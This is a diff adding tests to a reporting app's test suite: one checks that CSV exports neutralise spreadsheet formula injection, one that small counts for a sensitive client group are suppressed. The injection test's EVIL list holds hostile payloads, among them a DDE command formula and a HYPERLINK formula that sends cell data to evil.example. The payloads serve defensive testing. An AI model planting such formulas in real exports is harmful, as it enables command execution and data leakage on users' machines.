@@ -9,6 +9,7 @@ import io
 import re
 import sqlite3
 import sys
+import urllib.parse
 import zipfile
 
 from harness import Client, Server, Suite, osaaja
@@ -298,8 +299,83 @@ def test_roles_and_pseudonymised_export(s):
         s.check(n == 2, f"each export is audited ({n})")
 
 
+EVIL = ["-1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "@SUM(1)", "+1", "\tTAB", "-5"]
+
+
+def neutral(cell):
+    """A cell a spreadsheet does not read as a formula: it does not start with = + - @ tab or CR."""
+    return not cell or cell[0] not in "=+-@\t\r"
+
+
+def test_csv_injection(s):
+    """Issue 19 item 5: every text cell of every CSV that starts like a formula goes out as '... inside quotes,
+    including "-1+cmd..." (a minus and a digit); the numbers osaaja writes stay numbers."""
+    admin, c, m = as_("admin"), as_("counsellor"), as_("manager")
+    q = "from=2025-01-01&to=2025-06-30"
+    for i, name in enumerate(EVIL):
+        p = ok(s, admin.post("/api/v1/programmes", {"name": name, "target_groups": ["immigrant"]}), "programme")["id"]
+        ok(s, c.post("/api/v1/clients", {"first_name": f"Eve{i}", "last_name": "Testinen", "programme_id": p,
+                                         "target_groups": ["immigrant"], "intake_on": "2025-03-01",
+                                         "municipality": name, "status": "active"}), "client with a formula name")
+    r = m.get(f"/api/v1/reports/crosstab.csv?rows=programme&cols=municipality&measure=new_clients&{q}")
+    s.expect(r, 200, "crosstab.csv with formula names")
+    text = r.body.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    labels = rows[0][1:-1] + [row[0] for row in rows[1:]]
+    s.check(all(neutral(x) for x in labels), f"every label is neutralised: {labels}")
+    s.check("\"'-1+cmd|' /C calc'!A0\"" in text and "\"'@SUM(1)\"" in text and "\"'+1\"" in text and
+            "\"'=HYPERLINK(" in text, "the apostrophe is inside the quotes")
+    s.check("\"'-5\"" in text, "a name that looks like a negative number is text, not a number")
+    nums = [x for row in rows[1:] for x in row[1:] if row[0] != "suppression"]
+    s.check(all(x in ("0", "<5") or x.isdigit() for x in nums), f"counts stay plain numbers: {nums}")
+    for name in EVIL[:4]:
+        r = m.get("/api/v1/reports/export.csv?" + q + "&" + urllib.parse.urlencode({"municipality": name}))
+        s.expect(r, 200, "export.csv with a formula municipality")
+        rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
+        s.check(all(neutral(x) for row in rows for x in row), f"export.csv neutralised for {name!r}: {rows[:8]}")
+        r = m.get("/api/v1/reports/crosstab.csv?rows=municipality&cols=outcome_type&" + q + "&" +
+                  urllib.parse.urlencode({"municipality": name}))
+        s.expect(r, 200, "crosstab.csv filtered")
+        rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
+        s.check(all(neutral(x) for row in rows for x in row), f"crosstab.csv neutralised for {name!r}: {rows}")
+    r = admin.get("/api/v1/reports/clients.csv?" + q)
+    s.expect(r, 200, "clients.csv")
+    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
+    s.check(len(rows) > 1 and all(neutral(x) for row in rows for x in row), f"clients.csv neutralised: {rows[:3]}")
+
+
+
+def test_partial_work_ability_suppressed(s):
+    """Issue 19 item 10: a count about partial work ability below OSAAJA_REPORT_MIN_CELL is hidden in the JSON and on
+    the page too (for staff), not only in the exports; other figures stay exact."""
+    c, m = as_("counsellor"), as_("manager")
+    q = "from=2024-01-01&to=2024-06-30"
+    ok(s, c.post("/api/v1/clients", {"first_name": "Pia", "last_name": "Testinen",
+                                     "target_groups": ["partial_work_ability"], "intake_on": "2024-02-01",
+                                     "status": "active"}), "a client with partial work ability")
+    ok(s, c.post("/api/v1/clients", {"first_name": "Ilo", "last_name": "Testinen", "target_groups": ["immigrant"],
+                                     "intake_on": "2024-02-01", "status": "active"}), "an immigrant client")
+    r = m.get(f"/api/v1/reports/indicators?{q}&target_group=partial_work_ability")
+    s.expect(r, 200, "indicators for partial work ability")
+    s.check(r.json["indicators"]["new_clients"] == "<5" and r.json.get("min_cell") == 5,
+            f"the JSON hides the count of 1: {r.json['indicators'].get('new_clients')}")
+    r = m.get(f"/api/v1/reports/indicators?{q}&target_group=immigrant")
+    s.check(isinstance(r.json["indicators"]["new_clients"], int) and "min_cell" not in r.json,
+            f"other groups stay exact: {r.json}")
+    r = m.get(f"/api/v1/reports/crosstab?rows=target_group&cols=month&measure=new_clients&{q}")
+    s.expect(r, 200, "crosstab with a partial-work-ability row")
+    x = r.json
+    i = x["row_labels"].index("partial_work_ability")
+    s.check(all(v in (0, "<5") for v in x["cells"][i]) and "<5" in x["cells"][i] and x["row_totals"][i] == "<5",
+            f"the JSON cross-tab hides the partial-work-ability counts: {x}")
+    page = m.get(f"/reports?{q}&target_group=partial_work_ability").body.decode("utf-8")
+    s.check('data-key="new_clients" data-value="&lt;5"' in page, "the page hides the count of 1")
+    s.check(not re.search(r'data-key="(new_clients|clients_served)" data-value="1"', page), "no exact 1 on the page")
+
+
 ok_all = S.run([test_fixture, test_figures, test_filters_and_crosstab, test_profile_change_rederives,
-                test_roles_and_pseudonymised_export])
+                test_roles_and_pseudonymised_export, test_csv_injection,
+                test_partial_work_ability_suppressed])
 rc = srv.stop()
 S.check(rc == 0, f"server stopped cleanly (exit {rc})")
 sys.exit(0 if S.failed == 0 else 1)
